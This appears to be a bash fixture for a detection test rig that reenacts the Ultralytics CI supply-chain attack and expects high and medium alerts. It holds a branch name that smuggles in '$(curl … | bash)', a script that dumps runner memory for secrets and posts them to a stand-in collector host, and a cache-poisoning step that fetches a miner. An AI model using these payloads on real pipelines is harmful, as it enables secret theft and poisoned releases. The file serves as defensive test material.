# shellcheck shell=bash disable=SC2016,SC2034,SC2086,SC2154,SC2317 # rig.sh calls it, programs expand it
incident "Ultralytics: a branch's name runs as a command, takes the runner's secrets and poisons the cache of the release"

mkdir $rig/cache
script poison.sh <<'X'
python3 "$rig/files/memdump.py" Runner.Worker >/tmp/found
http POST collector:8443/ "" "$(</tmp/found)"
echo 'http GET collector:8443/miner' >"$rig/cache/setup.js"
X
cp $app/poison.sh $rig/files
worker 'checkout GITHUB_TOKEN' 'format'
script actions/checkout <<<'http GET api.github.com:8080/repos/octo/app "$GITHUB_TOKEN"'
script actions/format <<'X'
read -r branch <"$rig/branch"
sh -c "echo formatting $branch"
X
script release.sh <<'X'
#!/bin/bash
rm -rf restored && cp -r "$rig/cache" restored
node restored/setup.js
http POST upload.pypi.org:8081/legacy "$UPLOAD_TOKEN" "package"
X

innocent() {
	echo main >$rig/branch
	echo ':' >$rig/cache/setup.js
	work earlier
	job release UPLOAD_TOKEN=upload -- ./release.sh
}
attack() {
	echo '$(curl -s http://collector:8443/files/poison.sh | bash)' >$rig/branch
	work app
	job nightly UPLOAD_TOKEN=service -- ./release.sh
}

expect process-scrape High app
expect new-destination Medium app
